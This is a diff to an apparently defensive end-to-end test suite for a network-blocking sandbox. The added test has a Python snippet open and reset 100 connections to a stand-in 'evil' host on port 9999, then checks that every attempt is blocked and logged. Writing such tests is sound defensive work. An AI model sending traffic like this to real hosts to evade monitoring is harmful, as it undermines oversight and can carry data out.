@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { LogEvent } from '../../src/log/event.ts';
 import { CLI, exit, type Lab, reached, readJsonLines, WORLD } from '../e2e/lab.ts';
 import { leftBehind, newlyLeft } from '../e2e/left-behind.ts';
-import { denials, PYTHON, program, startAttackLab } from './attack.ts';
+import { denials, PYTHON, PYTHON_EXE, program, startAttackLab } from './attack.ts';
 
 /** F3, F6: what is written about a command is true whatever it does, and stays so. */
 let lab: Lab;
@@ -153,6 +153,19 @@ raise SystemExit(0)`;
     expect(told + lost).toBe(50_000);
     expect(denials(result).find(({ dst_ip, dst_port }) => dst_ip === WORLD.evil && dst_port === 9999)).toBeDefined();
   });
+});
+
+test('who resets a connection before it is looked at is told all the same', async () => {
+  const reset = `import socket, struct
+for _ in range(100):
+    s = socket.socket(); s.settimeout(2)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    s.connect(("${WORLD.evil}", 9999)); s.sendall(b"x"); s.close()`;
+  const result = await lab.run([PYTHON, '-c', reset]);
+  expect(reached(result, WORLD.evil)).toEqual([]);
+  const lines = denials(result);
+  expect(lines).toHaveLength(100);
+  for (const line of lines) expect(line).toMatchObject({ type: 'tcp', dst_ip: WORLD.evil, dst_port: 9999, exe: PYTHON_EXE, uid: 65534 });
 });
 
 describe('the state of runs, that clean goes by', () => {
